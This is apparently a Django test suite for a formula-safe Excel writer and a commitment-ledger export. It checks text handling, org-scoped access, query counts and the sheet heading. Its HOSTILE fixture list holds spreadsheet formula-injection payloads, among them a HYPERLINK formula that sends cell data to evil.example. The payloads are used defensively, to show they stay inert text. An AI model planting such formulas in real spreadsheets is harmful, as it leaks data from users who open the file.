"""The streaming, formula-safe Excel writer and the 承诺台账 export built on it."""
import datetime
import io
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from commitments.models import Item
from core.xlsx import Column, write_xlsx
from orgs.models import AuditEvent
from portal.ledger import ledger_export
from tests.commitments.publishing import published
from tests.conftest import make_commitment, make_member

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击领取")', "+1+1", "-2+3", "@SUM(A1:A2)"]


def _rows(handle):
    return list(load_workbook(handle).active.iter_rows(values_only=True))


def test_writer_keeps_formula_like_text_as_text():
    handle = write_xlsx(title="标题", columns=[Column("文本"), Column("日期", kind="date"), Column("数", kind="int")],
                        rows=[[text, datetime.date(2010, 10, 31), 7] for text in HOSTILE])
    data = handle.read()
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    ws = load_workbook(io.BytesIO(data)).active
    cells = [row for row in ws.iter_rows(min_row=3)]
    assert [r[0].value for r in cells] == HOSTILE
    assert {r[0].data_type for r in cells} == {"s"}
    assert cells[0][1].is_date and cells[0][1].value.date() == datetime.date(2010, 10, 31)
    assert cells[0][2].value == 7 and cells[0][2].data_type == "n"
    assert ws.freeze_panes == "A3"


def test_ledger_lists_every_commitment_of_the_subtree(world):
    hostile = make_member(world.branch_a, "赵敏")
    make_commitment(world.campaign, member=hostile, goal=HOSTILE[0], status="draft", actor=world.staff_a)
    c = published(world, member=world.member_a)
    make_commitment(world.campaign, member=world.member_d, status="draft", actor=world.staff_a)  # other tree
    rows = _rows(ledger_export(actor=world.committee_secretary, org=world.committee, campaign=world.campaign,
                               today=datetime.date(2010, 11, 15)))
    assert rows[0][0] == "市某局机关党委2010年创先争优公开承诺台账"
    assert rows[1][0] == "导出日期：2010年11月15日"
    header, body = rows[2], rows[3:]
    assert header[:4] == ("序号", "所属党组织", "承诺主体", "类型")
    names = {r[2] for r in body}
    assert names == {"赵敏", "李娜"}  # 刘赟 is under another committee
    li = next(r for r in body if r[2] == "李娜")
    assert li[1] == "第一党支部" and li[3] == "党员" and li[7] == "已公开"
    assert li[8] == "同意公开。" and li[9].date() == datetime.date(2010, 10, 20)
    assert li[10] == "已完成0/2"
    assert li[6].date() == datetime.date(2010, 12, 31)
    assert "（2010年12月31日前）" in li[5]
    zhao = next(r for r in body if r[2] == "赵敏")
    assert zhao[4] == HOSTILE[0]  # text, never a formula
    assert AuditEvent.objects.filter(action="ledger.export", organisation=world.committee).count() == 1
    del c


def test_ledger_query_count_does_not_grow_with_rows(world):
    def count():
        with CaptureQueriesContext(connection) as ctx:
            _rows(ledger_export(actor=world.city_secretary, org=world.root, campaign=world.campaign))
        return len(ctx.captured_queries)

    published(world, member=world.member_a)
    few = count()
    for n in range(6):
        m = make_member(world.branch_b, f"党员{n}")
        make_commitment(world.campaign, member=m, status="submitted", actor=world.staff_a)
    published(world, member=world.member_b, reviewer=world.secretary_b, drafter=world.reviewer,
              publisher=world.reviewer)
    assert count() == few


def test_ledger_download_view(world, as_user):
    published(world, member=world.member_a)
    response = as_user(world.staff_a).get(reverse("portal:ledger_xlsx"), {"org": world.branch_a.pk})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    rows = _rows(io.BytesIO(b"".join(response.streaming_content)))
    assert rows[3][2] == "李娜"


@pytest.mark.parametrize("who", ["staff_a", "outsider", "member_user_a"])
def test_ledger_of_an_organisation_out_of_reach_is_404(world, as_user, who):
    response = as_user(getattr(world, who)).get(reverse("portal:ledger_xlsx"), {"org": world.branch_b.pk})
    assert response.status_code == 404
    assert Item.objects.count() == 0


def test_ledger_heading_does_not_repeat_chengnuo(world):
    """"…公开承诺" + "承诺台账" would read 公开承诺承诺台账: the heading says 台账 after a name ending in 承诺."""
    from portal.ledger import ledger_heading

    assert ledger_heading(world.branch_a, world.campaign) == f"{world.branch_a.name}{world.campaign.name}台账"
    world.campaign.name = "2010年度创先争优活动"
    assert ledger_heading(world.branch_a, world.campaign) == f"{world.branch_a.name}2010年度创先争优活动承诺台账"

